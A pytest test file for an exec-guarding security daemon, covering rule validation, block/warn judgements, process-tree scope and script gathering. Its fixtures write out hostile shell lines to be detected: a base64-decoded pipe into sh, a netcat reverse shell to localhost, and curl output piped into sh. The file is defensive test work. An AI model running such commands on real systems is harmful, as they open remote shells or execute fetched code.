"""The exec judge's pure core: exec view, context rules (their own examples), judgement,
scope over a synthetic tree, trust windows; and `gather` over real files and processes."""

from __future__ import annotations

import os
import subprocess
import threading
import time
from pathlib import Path

import pytest

from attyguard.daemon.execguard import (
    ExecFacts,
    ExecRuleError,
    GuardedTrees,
    TrustWindows,
    exec_view,
    facts_from_example,
    gather,
    judge,
    load_exec_rules,
    pipe_writers,
    program_from_stdin,
    run_exec_examples,
)
from attyguard.daemon.threats import ProcInfo
from attyguard.engine.classify import classify
from attyguard.engine.verdict import Action
from attyguard.kernel.events import ExecEvent, FdInfo, FdKind

RULES = load_exec_rules()
TTY = (FdInfo(FdKind.TTY), FdInfo(FdKind.TTY), FdInfo(FdKind.TTY))
# Tier-1 blocks this line (encoded text decoded into a shell); harmless here: never run.
BLOCKED = "echo aGk= | base64 -d | sh"


def facts(*argv: str, program: str = "", script_text: str | None = None) -> ExecFacts:
    return ExecFacts(program=program or f"/usr/bin/{argv[0]}", argv=argv, fds=TTY,
                     script_text=script_text)


# --------------------------------------------------------------------------- exec view

@pytest.mark.parametrize(("argv", "program", "lines"), [
    (("ls", "-l"), "/usr/bin/ls", ("ls -l",)),
    (("bash", "-c", "id; uname"), "/usr/bin/bash", ("bash -c 'id; uname'", "id; uname")),
    (("sh", "-ec", "true"), "/usr/bin/dash", ("sh -ec true", "/usr/bin/dash -ec true", "true")),
    (("bash", "-o", "pipefail", "-c", "x"), "/usr/bin/bash",
     ("bash -o pipefail -c x", "x")),
    # argv[0] is the caller's choice: the real executable is judged too
    (("innocent", "-e", "/bin/sh", "h", "1"), "/usr/bin/nc.openbsd",
     ("innocent -e /bin/sh h 1", "/usr/bin/nc.openbsd -e /bin/sh h 1")),
    (("python3", "-c", "print(1)"), "/usr/bin/python3", ("python3 -c 'print(1)'",)),
])
def test_exec_view_lines(argv: tuple[str, ...], program: str, lines: tuple[str, ...]) -> None:
    assert exec_view(facts(*argv, program=program)) == lines


def test_exec_view_adds_the_script_text() -> None:
    view = exec_view(facts("bash", "./x.sh", script_text="echo hi\n"))
    assert view == ("bash ./x.sh", "echo hi\n")


@pytest.mark.parametrize(("argv", "expected"), [
    (("bash",), True), (("bash", "-i"), True), (("sh", "-s", "--", "a"), True),
    (("bash", "x.sh"), False), (("bash", "-c", "id"), False), (("bash", "-x", "x.sh"), False),
    (("python3",), True), (("python3", "-i"), True), (("python3", "s.py"), False),
    (("perl", "-e", "1"), False), (("node", "--eval", "1"), False),
])
def test_program_from_stdin(argv: tuple[str, ...], expected: bool) -> None:
    assert program_from_stdin(facts(*argv)) is expected


# --------------------------------------------------------------------------- rules

def test_every_shipped_exec_rule_passes_its_own_examples() -> None:
    assert RULES, "patterns/exec/ holds no rule"
    assert run_exec_examples(RULES) == []


def test_the_issue_s_context_rules_are_shipped() -> None:
    ids = {r.id for r in RULES}
    assert {"exec.reverse-shell", "exec.download-into-shell", "exec.fresh-executable",
            "exec.af-alg-socket"} <= ids


def test_a_rule_whose_example_is_wrong_is_reported_with_its_place(tmp_path: Path) -> None:
    (tmp_path / "r.yaml").write_text(
        "rules:\n"
        "  - id: exec.x\n    title: t\n    severity: LOW\n    action: warn\n"
        "    explanation: e\n    when: {program: [bash]}\n"
        "    examples:\n      match: [{argv: [zsh]}]\n      nomatch: [{argv: [ls]}]\n")
    rules = load_exec_rules(tmp_path)
    failures = run_exec_examples(rules)
    assert len(failures) == 1 and f"{tmp_path / 'r.yaml'}:2: rule 'exec.x'" in failures[0]


_GOOD = ("  - id: exec.x\n    title: t\n    severity: LOW\n    action: warn\n"
         "    explanation: e\n    when: {program: [bash]}\n"
         "    examples:\n      match: [{argv: [bash]}]\n      nomatch: [{argv: [ls]}]\n")


@pytest.mark.parametrize(("text", "line", "message"), [
    ("rules: [\n", 2, "invalid YAML"),
    ("rules:\n" + _GOOD.replace("{program: [bash]}", "{colour: red}"), 2,
     "unknown condition when.colour"),
    ("rules:\n" + _GOOD.replace("{program: [bash]}", "{stdin: sockett}"), 2,
     "'sockett' is not one of"),
    ("rules:\n" + _GOOD.replace("{program: [bash]}", "{program: ['@nosuch']}"), 2,
     "unknown set @nosuch"),
    ("rules:\n" + _GOOD.replace("      nomatch: [{argv: [ls]}]\n", ""), 2,
     "needs non-empty 'match' and 'nomatch'"),
    ("rules:\n" + _GOOD.replace("id: exec.x", "id: x"), 2, "starting with 'exec.'"),
    ("rules:\n" + _GOOD.replace("action: warn", "action: maybe"), 2, "'action' must be"),
    ("rules:\n" + _GOOD + _GOOD, 11, "duplicate id"),
])
def test_rule_file_mistakes_are_located(tmp_path: Path, text: str, line: int,
                                        message: str) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(text)
    with pytest.raises(ExecRuleError) as info:
        load_exec_rules(path)
    assert str(info.value).startswith(f"{path}:{line}:"), str(info.value)
    assert message in str(info.value)


# --------------------------------------------------------------------------- judgement

def test_a_critical_tree_is_refused_whatever_the_program() -> None:
    j = judge(facts("ls"), critical="daemon Block", engine=classify, rules=RULES)
    assert j.action is Action.BLOCK and j.rules == ("exec.tree-critical",)
    assert "daemon Block" in j.reason


@pytest.mark.parametrize(("f", "action", "rule"), [
    (facts("bash", "-c", BLOCKED), Action.BLOCK, "obf-"),
    (facts("bash", "./s.sh", script_text=f"cd /tmp\n{BLOCKED}\n"), Action.BLOCK, "obf-"),
    (facts("nc", "-e", "/bin/sh", "127.0.0.1", "9"), Action.BLOCK, "rs-netcat"),
    (facts("ls", "-l"), Action.ALLOW, None),
    # a Tier-1 warn is not carried to the exec: the prompt asked about it already
    (facts("bash", "-c", "curl -s https://h.invalid/i | sh"), Action.ALLOW, None),
    (ExecFacts("/usr/bin/bash", ("bash", "-i"),
               (FdInfo(FdKind.SOCKET, 5, 2), FdInfo(FdKind.SOCKET, 5, 2), FdInfo(FdKind.TTY))),
     Action.BLOCK, "exec.reverse-shell"),
    (ExecFacts("/usr/bin/bash", ("bash",), (FdInfo(FdKind.PIPE, 7), *TTY[1:]),
               stdin_writers=("curl",)), Action.WARN, "exec.download-into-shell"),
])
def test_judgement(f: ExecFacts, action: Action, rule: str | None) -> None:
    j = judge(f, critical=None, engine=classify, rules=RULES)
    assert j.action is action, j
    if rule is None:
        assert j.rules == ()
    else:
        assert any(r.startswith(rule) for r in j.rules), j
        assert j.reason


def test_the_strongest_finding_wins() -> None:
    # a reverse shell (block) that is also a fresh executable (warn): block, its rule only
    f = facts_from_example({"argv": ["bash"], "stdin": "socket:inet", "stdout": "socket:inet",
                            "exe_same_tree": True, "exe_age_s": 3})
    j = judge(f, critical=None, engine=classify, rules=RULES)
    assert j.action is Action.BLOCK and j.rules == ("exec.reverse-shell",)


# --------------------------------------------------------------------------- scope, trust

class Table:
    def __init__(self, procs: dict[int, tuple[int, float, int]]) -> None:
        self.procs = procs

    def info(self, pid: int) -> ProcInfo | None:
        entry = self.procs.get(pid)
        return ProcInfo(pid, *entry) if entry else None


def test_sessions_scope_follows_the_live_tree_and_pid_reuse() -> None:
    table = Table({1: (0, 1.0, 0), 10: (1, 5.0, 1000), 20: (10, 6.0, 1000),
                   30: (20, 7.0, 1000), 11: (1, 5.5, 1001)})
    trees = GuardedTrees(table)
    assert trees.in_scope(30, 20, 1000) == (False, None)
    assert trees.register(10)
    assert trees.in_scope(30, 20, 1000) == (True, 10)  # existed before the registration
    assert trees.in_scope(11, 1, 1001) == (False, None)
    trees.forked(30, 40)
    assert trees.owner(40) == 10  # from the fork, no /proc walk (40 is not in the table)
    # the shell exits; its orphan (known from the fork) stays in its tree
    assert trees.exited(10) == 10 and trees.owner(40) == 10
    assert [t["alive"] for t in trees.roots()] == [False]
    table.procs[10] = (1, 99.0, 1000)  # pid 10 now names another process …
    assert trees.owner(20) is None  # … which is not the registered shell
    trees.exited(30)
    trees.exited(40)  # its last known member: the tree is forgotten
    assert trees.roots() == [] and trees.owner(40) is None


def test_group_scope_follows_the_group_s_users() -> None:
    trees = GuardedTrees(Table({5: (1, 1.0, 0)}), scope="group", group="root")
    assert trees.in_scope(5, 1, 0)[0] is True  # root's primary group is root
    assert trees.in_scope(5, 1, 65534)[0] is False
    assert GuardedTrees(Table({}), scope="group", group="no-such-group").in_scope(5, 1, 0) \
        == (False, None)


def test_all_scope_judges_everyone_but_the_daemon() -> None:
    trees = GuardedTrees(Table({5: (1, 1.0, 0)}), scope="all")
    assert trees.in_scope(5, 1, 0) == (True, None)
    assert trees.in_scope(os.getpid(), 1, 0)[0] is False


def test_trust_window_opens_closes_and_expires() -> None:
    w = TrustWindows(max_s=10)
    assert w.active(7) is None
    w.open(7, "make deploy", now=100.0)
    assert w.active(7, now=105.0) == "make deploy"
    assert w.active(8, now=105.0) is None
    assert w.active(7, now=111.0) is None  # expired
    w.open(7, "x", now=200.0)
    w.close(7)
    assert w.active(7, now=200.0) is None


# --------------------------------------------------------------------------- gather (real)

def _event(pid: int, filename: str, argv: tuple[str, ...],
           fds: tuple[FdInfo, FdInfo, FdInfo] | None = None) -> ExecEvent:
    return ExecEvent(time.time(), pid, pid, os.getppid(), os.getuid(), filename, argv, fds=fds)


def test_gather_reads_the_script_a_shell_runs_bounded(tmp_path: Path) -> None:
    script = tmp_path / "s.sh"
    script.write_text(BLOCKED + "\n" + "#" * (2 << 20))
    f = gather(_event(os.getpid(), "/bin/bash", ("bash", str(script))),
               tree_since=None, tree_uid=None)
    assert f.script_text is not None and f.script_text.startswith(BLOCKED)
    assert len(f.script_text) == 1 << 20


def test_gather_reads_a_shebang_script_exec_d_directly(tmp_path: Path) -> None:
    script = tmp_path / "run"
    script.write_text("#!/usr/bin/env bash\n" + BLOCKED + "\n")
    script.chmod(0o755)
    since = time.time() - 5
    f = gather(_event(os.getpid(), str(script), (str(script),)), tree_since=since,
               tree_uid=os.getuid())
    assert f.script_text is not None and BLOCKED in f.script_text
    assert f.exe_same_tree and f.exe_age_s is not None and f.exe_age_s < 60
    assert not f.exe_elf
    assert judge(f, critical=None, engine=classify, rules=RULES).action is Action.BLOCK


def test_gather_reads_a_memfd_script_through_the_tasks_own_fd() -> None:
    """`bash /proc/self/fd/N`, N a memfd holding the script: /proc/self is the exec'ing
    task's, not the daemon's, so the script is read through /proc/PID/fd/N."""
    fd = os.memfd_create("script", 0)
    os.write(fd, (BLOCKED + "\n").encode())
    holder = subprocess.Popen(["sleep", "30"], pass_fds=(fd,))
    os.close(fd)  # this process has no such fd now: only the task's can be read
    try:
        for name in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
            f = gather(_event(holder.pid, "/bin/bash", ("bash", name)), tree_since=None,
                       tree_uid=None)
            assert f.script_text is not None and BLOCKED in f.script_text, name
            assert judge(f, critical=None, engine=classify, rules=RULES).action is Action.BLOCK
    finally:
        holder.kill()
        holder.wait()


def test_gather_never_reads_a_pipe_or_waits_on_a_fifo(tmp_path: Path) -> None:
    """`bash <(…)` runs /dev/fd/63, a pipe: reading it would steal the task's script,
    and a FIFO with no writer would hold the judging thread. Neither is read."""
    r, w = os.pipe()
    os.write(w, b"echo from the pipe\n")
    holder = subprocess.Popen(["sleep", "30"], pass_fds=(r,))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    done: list[ExecFacts] = []
    try:
        t = threading.Thread(target=lambda: done.extend(
            gather(_event(holder.pid, "/bin/bash", ("bash", name)), tree_since=None,
                   tree_uid=None) for name in (f"/dev/fd/{r}", str(fifo))), daemon=True)
        t.start()
        t.join(10)
        assert len(done) == 2, "gather waited on a pipe or a FIFO"
        assert all(f.script_text is None for f in done)
        os.set_blocking(r, False)
        assert os.read(r, 100) == b"echo from the pipe\n"  # still all there for the task
    finally:
        holder.kill()
        holder.wait()
        os.close(r)
        os.close(w)


def test_gather_old_system_binary_is_not_fresh() -> None:
    f = gather(_event(os.getpid(), "/bin/ls", ("ls",)), tree_since=time.time() - 5,
               tree_uid=os.getuid())
    assert f.exe_elf and not f.exe_same_tree and f.script_text is None


def test_pipe_writers_finds_the_other_end_among_siblings() -> None:
    writer = subprocess.Popen(["sleep", "30"], stdout=subprocess.PIPE)
    reader = subprocess.Popen(["sleep", "30"], stdin=writer.stdout)
    try:
        assert writer.stdout is not None
        inode = os.fstat(writer.stdout.fileno()).st_ino
        assert "sleep" in pipe_writers(reader.pid, os.getpid(), inode)
        assert pipe_writers(reader.pid, os.getpid(), inode + 1_000_000) == ()
    finally:
        for p in (writer, reader):
            p.kill()
            p.wait()
        if writer.stdout is not None:
            writer.stdout.close()


def test_a_padded_script_does_not_hide_its_payload() -> None:
    # too large for the engine as one text: judged again line by line
    padding = "echo padding-line\n" * 5000 + "#" * 70_000 + "\n"
    f = facts("bash", "./big.sh", script_text=padding + BLOCKED + "\n")
    j = judge(f, critical=None, engine=classify, rules=RULES, budget_s=30.0)
    assert j.action is Action.BLOCK and any(r.startswith("obf-") for r in j.rules), j


def test_a_script_that_cannot_be_judged_in_time_is_a_warning_not_a_pass() -> None:
    ticks = iter(range(1000))
    f = facts("bash", "./big.sh", script_text="echo x\n" * 20_000 + BLOCKED + "\n")
    j = judge(f, critical=None, engine=classify, rules=RULES, budget_s=5,
              clock=lambda: float(next(ticks)))
    assert j.action is Action.WARN and j.rules == ("exec.script-unjudged",), j


@pytest.mark.parametrize(("text", "lines"), [
    ("a\n\n# c\nb \\\n  c\n", ["a", "b   c"]),
    ("x \\\\\ny\n", ["x \\\\", "y"]),
    ("tail \\", ["tail "]),
])
def test_script_lines(text: str, lines: list[str]) -> None:
    from attyguard.daemon.execguard import script_lines

    assert list(script_lines(text)) == lines


def test_an_exited_member_keeps_its_tree_for_a_judgement_after_the_fact() -> None:
    """warn judges after the exec: the process may be gone from /proc, and its exit may
    have unmapped it, by then. Its tree is still found (while the tree is known)."""
    table = Table({1: (0, 1.0, 0), 10: (1, 5.0, 1000)})
    trees = GuardedTrees(table)
    assert trees.register(10)
    trees.forked(10, 50)
    trees.exited(50)  # 50 was never in /proc's table: gone before anyone looked
    assert trees.in_scope(50, 0, -1) == (True, 10)
    assert trees.owner(60) is None  # never a member
    table.procs[50] = (1, 9.0, 1000)  # pid 50 reused outside the tree: not taken for it
    assert trees.owner(50) is None
    del table.procs[50]
    trees.exited(10)
    assert trees.roots() == [] and trees.owner(50) is None  # the tree itself is forgotten
